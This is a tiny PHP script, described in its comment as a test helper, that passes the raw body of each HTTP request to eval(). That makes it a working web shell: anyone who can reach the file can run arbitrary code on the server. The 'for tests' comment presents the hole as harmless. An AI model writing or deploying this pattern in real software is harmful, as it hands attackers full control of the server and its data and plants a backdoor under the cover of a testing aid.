<?php
// Runs the PHP code in the body of the request, for tests.
eval( file_get_contents( 'php://input' ) );
